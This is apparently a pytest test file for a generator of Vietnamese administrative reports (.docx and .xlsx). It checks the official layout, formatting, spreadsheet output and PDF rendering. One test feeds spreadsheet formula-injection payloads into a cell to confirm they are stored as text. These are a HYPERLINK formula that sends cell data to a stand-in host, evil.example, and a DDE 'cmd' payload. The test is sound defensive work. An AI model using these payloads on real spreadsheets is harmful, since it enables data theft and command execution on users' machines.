"""Report drafts in the Nghị định 30/2020 layout: what the .docx and .xlsx hold, read back with
python-docx and openpyxl, and how the .docx looks once LibreOffice has rendered it."""

from __future__ import annotations

import datetime
import io
import shutil

import docx
import openpyxl
import pypdfium2
import pytest
from PIL import Image

from cchc import external
from cchc.reports import Draft, Heading, Paragraph, Table, write_docx, write_xlsx

UNITS = Table(
    title="Biểu 1. Kết quả thực hiện nhiệm vụ theo đơn vị",
    header=["STT", "Đơn vị", "Nhiệm vụ đến hạn", "Hoàn thành đúng hạn", "Quá hạn", "Tỷ lệ (%)"],
    rows=[
        [1, "Văn phòng HĐND và UBND", 3, 3, 0, 100.0],
        [2, "Phòng Nội vụ", 4, 4, 0, 100.0],
        [3, "Phòng Tài nguyên và Môi trường", 2, 1, 1, 50.0],
        [4, "UBND phường An Lạc", 1, 1, 0, 100.0],
        [5, "UBND xã Phú Mỹ", 1, 0, 1, 0.0],
        [None, "Tổng cộng", 11, 9, 2, 81.8],
    ],
    widths_cm=[1.2, 6.3, 2.4, 2.6, 1.8, 2.2],
)
AREAS = Table(
    title="Biểu 2. Kết quả theo lĩnh vực cải cách hành chính",
    header=["Lĩnh vực", "Nhiệm vụ", "Hoàn thành", "Minh chứng"],
    rows=[
        ["Cải cách thể chế", 2, 2, "Quyết định số 12/QĐ-UBND"],
        ["Cải cách thủ tục hành chính", 4, 3, "Báo cáo số 61/BC-VP"],
        ["Cải cách tổ chức bộ máy", 2, 2, "Kế hoạch số 18/KH-UBND"],
        ["Chính quyền điện tử, chính quyền số", 3, 2, None],
    ],
)


def quarterly_report(date: datetime.date | None = datetime.date(2026, 3, 15)) -> Draft:
    """The quarterly CCHC report of the fictional thị xã An Phú (see src/cchc/samples)."""
    return Draft(
        issuer="ỦY BAN NHÂN DÂN THỊ XÃ AN PHÚ",
        symbol="BC-UBND",
        place="An Phú",
        date=date,
        doc_type="BÁO CÁO",
        title="Kết quả thực hiện công tác cải cách hành chính quý I năm 2026",
        body=[
            Paragraph(
                "Thực hiện Công văn số 128/SNV-CCHC ngày 25/02/2026 của Sở Nội vụ tỉnh Bình Long "
                "về việc báo cáo định kỳ công tác cải cách hành chính năm 2026, UBND thị xã An Phú "
                "báo cáo kết quả thực hiện công tác cải cách hành chính quý I năm 2026 như sau:"
            ),
            Heading("KẾT QUẢ THỰC HIỆN CÁC NHIỆM VỤ CẢI CÁCH HÀNH CHÍNH"),
            Heading("Công tác chỉ đạo, điều hành", level=2),
            Paragraph(
                "UBND thị xã ban hành Kế hoạch số 18/KH-UBND ngày 08/01/2026 về cải cách hành "
                "chính nhà nước năm 2026. Trong quý, các cơ quan, đơn vị hoàn thành 9/11 nhiệm vụ "
                "đến hạn theo Kế hoạch, đạt 81,8%; 02 nhiệm vụ quá hạn."
            ),
            UNITS,
            Heading("Kết quả theo lĩnh vực", level=2),
            Heading("Các nhiệm vụ có minh chứng", level=3),
            AREAS,
            Heading("NHIỆM VỤ TRỌNG TÂM QUÝ II NĂM 2026"),
            Paragraph(
                "Nâng tỷ lệ số hóa hồ sơ, kết quả giải quyết thủ tục hành chính đạt tối thiểu 80% "
                "trước ngày 30/6/2026; giảm tỷ lệ hồ sơ trễ hạn lĩnh vực đất đai."
            ),
            Paragraph(
                "Trên đây là báo cáo kết quả thực hiện công tác cải cách hành chính quý I năm 2026 "
                "của UBND thị xã An Phú./."
            ),
        ],
        recipients=[
            "Sở Nội vụ tỉnh Bình Long (b/c)",
            "TT. Thị ủy, TT. HĐND thị xã (b/c)",
            "CT, các PCT UBND thị xã",
            "Các cơ quan chuyên môn thuộc UBND thị xã",
            "UBND các phường, xã",
            "Lưu: VT, NV",
        ],
        signer_authority="TM. ỦY BAN NHÂN DÂN\nKT. CHỦ TỊCH",
        signer_title="PHÓ CHỦ TỊCH",
        signer_name="Trần Thị Thu Hà",
    )


def docx_of(draft: Draft) -> docx.document.Document:
    stream = io.BytesIO()
    write_docx(draft, stream)
    stream.seek(0)
    return docx.Document(stream)


def cell_lines(cell) -> list[str]:
    return [p.text for p in cell.paragraphs if p.text.strip()]


def body_order(document) -> list[str]:
    """Paragraph texts and "<table: first header cell>" in document order, after the title."""
    items = []
    for element in document.element.body.iterchildren():
        if element.tag.endswith("}p"):
            text = "".join(t.text or "" for t in element.iter() if t.tag.endswith("}t"))
            if text.strip():
                items.append(text)
        elif element.tag.endswith("}tbl"):
            table = docx.table.Table(element, document)
            items.append(f"<table: {table.rows[0].cells[0].text}>")
    return items


def test_header_table_has_the_issuer_on_the_left_and_the_motto_on_the_right():
    header = docx_of(quarterly_report()).tables[0]
    issuer, motto = header.rows[0].cells
    assert cell_lines(issuer) == ["ỦY BAN NHÂN DÂN\nTHỊ XÃ AN PHÚ"]
    assert issuer.paragraphs[0].runs[0].bold
    assert cell_lines(motto) == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
    ]


def test_parent_body_sits_above_the_issuer_not_in_bold():
    draft = quarterly_report()
    draft.parent_issuer, draft.issuer = "ỦY BAN NHÂN DÂN TỈNH BÌNH LONG", "Sở Nội vụ"
    issuer = docx_of(draft).tables[0].rows[0].cells[0]
    assert cell_lines(issuer) == ["ỦY BAN NHÂN DÂN\nTỈNH BÌNH LONG", "SỞ NỘI VỤ"]
    assert not issuer.paragraphs[0].runs[0].bold and issuer.paragraphs[1].runs[0].bold


def test_number_placeholder_sits_under_the_issuer():
    number = docx_of(quarterly_report()).tables[0].rows[1].cells[0]
    assert cell_lines(number) == ["Số:      /BC-UBND"]


def test_date_line_is_in_italics_with_a_zero_before_small_days_and_months():
    cell = docx_of(quarterly_report()).tables[0].rows[1].cells[1]
    assert cell_lines(cell) == ["An Phú, ngày 15 tháng 3 năm 2026"]
    assert cell.paragraphs[0].runs[0].italic
    early = docx_of(quarterly_report(datetime.date(2026, 2, 5))).tables[0].rows[1].cells[1]
    assert cell_lines(early) == ["An Phú, ngày 05 tháng 02 năm 2026"]


def test_date_line_leaves_day_and_month_blank_without_a_date():
    cell = docx_of(quarterly_report(date=None)).tables[0].rows[1].cells[1]
    year = datetime.date.today().year
    assert cell_lines(cell) == [f"An Phú, ngày    tháng    năm {year}"]


def test_type_and_title_are_bold_and_centred_before_the_body():
    paragraphs = [p for p in docx_of(quarterly_report()).paragraphs if p.text.strip()]
    kind, title = paragraphs[0], paragraphs[1]
    assert kind.text == "BÁO CÁO" and kind.runs[0].bold
    assert title.text == "Kết quả thực hiện công tác cải cách hành chính quý I năm 2026"
    assert title.runs[0].bold and title.alignment == docx.enum.text.WD_ALIGN_PARAGRAPH.CENTER


def test_body_text_headings_and_tables_come_in_order():
    items = body_order(docx_of(quarterly_report()))
    start = items.index("BÁO CÁO")
    assert items[start + 2].startswith("Thực hiện Công văn số 128/SNV-CCHC")
    assert items[start + 3 : start + 5] == [
        "I. KẾT QUẢ THỰC HIỆN CÁC NHIỆM VỤ CẢI CÁCH HÀNH CHÍNH",
        "1. Công tác chỉ đạo, điều hành",
    ]
    middle = items[start + 5 :]
    assert middle[1:3] == [UNITS.title, "<table: STT>"]
    assert middle[3:7] == [
        "2. Kết quả theo lĩnh vực",
        "Các nhiệm vụ có minh chứng",
        AREAS.title,
        "<table: Lĩnh vực>",
    ]
    assert middle[7] == "II. NHIỆM VỤ TRỌNG TÂM QUÝ II NĂM 2026"


def test_body_paragraphs_are_justified_with_a_first_line_indent_in_times_new_roman():
    document = docx_of(quarterly_report())
    body = next(p for p in document.paragraphs if p.text.startswith("Thực hiện Công văn"))
    assert body.alignment == docx.enum.text.WD_ALIGN_PARAGRAPH.JUSTIFY
    assert body.paragraph_format.first_line_indent.cm == pytest.approx(1.27, abs=0.01)
    assert 13 <= body.runs[0].font.size.pt <= 14
    assert document.styles["Normal"].font.name == "Times New Roman"
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert 20 <= round(section.top_margin.mm) <= 25 and 30 <= round(section.left_margin.mm) <= 35
    assert 15 <= round(section.right_margin.mm) <= 20


def test_tables_have_a_bold_header_row_and_numbers_written_the_vietnamese_way():
    units = docx_of(quarterly_report()).tables[1]
    assert [c.text for c in units.rows[0].cells] == UNITS.header
    assert all(c.paragraphs[0].runs[0].bold for c in units.rows[0].cells)
    assert [c.text for c in units.rows[-1].cells] == ["", "Tổng cộng", "11", "9", "2", "81,8"]
    assert units.style.name == "Table Grid"


def test_closing_has_the_recipients_on_the_left_and_the_signer_on_the_right():
    closing = docx_of(quarterly_report()).tables[-1]
    recipients, signer = closing.rows[0].cells
    lines = cell_lines(recipients)
    assert lines[0] == "Nơi nhận:"
    assert recipients.paragraphs[0].runs[0].bold and recipients.paragraphs[0].runs[0].italic
    assert lines[1:] == [
        "- Sở Nội vụ tỉnh Bình Long (b/c);",
        "- TT. Thị ủy, TT. HĐND thị xã (b/c);",
        "- CT, các PCT UBND thị xã;",
        "- Các cơ quan chuyên môn thuộc UBND thị xã;",
        "- UBND các phường, xã;",
        "- Lưu: VT, NV.",
    ]
    assert recipients.paragraphs[1].runs[0].font.size.pt == 11
    assert cell_lines(signer) == [
        "TM. ỦY BAN NHÂN DÂN",
        "KT. CHỦ TỊCH",
        "PHÓ CHỦ TỊCH",
        "Trần Thị Thu Hà",
    ]
    assert all(p.runs[0].bold for p in signer.paragraphs if p.text)


def test_archive_line_is_added_when_the_recipients_lack_one():
    draft = quarterly_report()
    draft.recipients = ["Như trên"]
    recipients = docx_of(draft).tables[-1].rows[0].cells[0]
    assert cell_lines(recipients) == ["Nơi nhận:", "- Như trên;", "- Lưu: VT."]


def test_docx_is_written_to_a_path(tmp_path):
    target = tmp_path / "bao-cao.docx"
    write_docx(quarterly_report(), target)
    assert docx.Document(str(target)).tables[0].rows[1].cells[0].text == "Số:      /BC-UBND"


def test_xlsx_has_one_sheet_per_table_with_the_header_and_numbers_as_numbers(tmp_path):
    target = tmp_path / "bieu.xlsx"
    write_xlsx([UNITS, AREAS, Table(header=["A"], rows=[[1]])], target, title="Báo cáo quý I")
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == [UNITS.title[:31], AREAS.title[:31], "Bảng 3"]
    assert book.properties.title == "Báo cáo quý I"
    units = book.worksheets[0]
    assert [c.value for c in units[1]] == UNITS.header
    assert all(c.font.b for c in units[1])
    assert [c.value for c in units[7]] == [None, "Tổng cộng", 11, 9, 2, 81.8]
    assert isinstance(units["C2"].value, int) and isinstance(units["F7"].value, float)
    assert units.column_dimensions["B"].width > units.column_dimensions["A"].width


def test_xlsx_writes_text_that_looks_like_a_formula_as_text(tmp_path):
    target = tmp_path / "nhiem-vu.xlsx"
    action = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    rows = [[1, action], [2, "+cmd|' /C calc'!A0"], [3, "@SUM(1+1)"], [-4, "- gạch đầu dòng"]]
    write_xlsx([Table(header=["STT", "Nhiệm vụ"], rows=rows)], target)
    sheet = openpyxl.load_workbook(target).worksheets[0]
    assert sheet["B2"].value == action and sheet["B2"].data_type == "s"
    assert all(sheet[f"B{n}"].data_type == "s" for n in range(2, 6))
    assert all(sheet[f"B{n}"].quotePrefix for n in range(2, 6))
    assert sheet["A5"].value == -4 and sheet["A5"].data_type == "n"
    assert not sheet["A2"].quotePrefix


def test_xlsx_sheet_names_are_cut_cleaned_and_unique():
    stream = io.BytesIO()
    long = "Bảng: kết quả / theo đơn vị và theo lĩnh vực cải cách"
    write_xlsx([Table(header=["x"], rows=[], title=long)] * 2, stream)
    stream.seek(0)
    names = openpyxl.load_workbook(stream).sheetnames
    assert len(names) == 2 and len(set(names)) == 2
    assert all(len(n) <= 31 and "/" not in n and ":" not in n for n in names)


def test_missing_libreoffice_is_reported_with_how_to_install_it(monkeypatch, tmp_path):
    monkeypatch.setattr(shutil, "which", lambda program: None)
    with pytest.raises(external.MissingProgram, match="libreoffice"):
        external.docx_to_pdf(tmp_path / "a.docx", tmp_path)


@pytest.mark.skipif(
    not shutil.which("soffice") or not shutil.which("pdftoppm"),
    reason="LibreOffice (soffice) or Poppler (pdftoppm) not installed: "
    "apt-get install libreoffice-writer-nogui poppler-utils",
)
def test_rendered_first_page_is_an_a4_page_of_dark_text_on_white(tmp_path):
    source = tmp_path / "bao-cao.docx"
    write_docx(quarterly_report(), source)
    pdf = external.docx_to_pdf(source, tmp_path / "out")
    document = pypdfium2.PdfDocument(str(pdf))
    width, height = document[0].get_size()  # points
    document.close()
    assert (round(width * 25.4 / 72), round(height * 25.4 / 72)) == (210, 297)
    png = external.render_pdf_page(pdf, 1, 50, tmp_path / "out")
    pages = list((tmp_path / "out").glob("*.png"))
    assert pages == [png]
    image = Image.open(png).convert("L")
    assert image.size == pytest.approx((413, 585), abs=2)
    histogram, total = image.histogram(), image.width * image.height
    white = sum(histogram[231:]) / total
    dark = sum(histogram[:100]) / total
    assert white > 0.8 and dark > 0.01
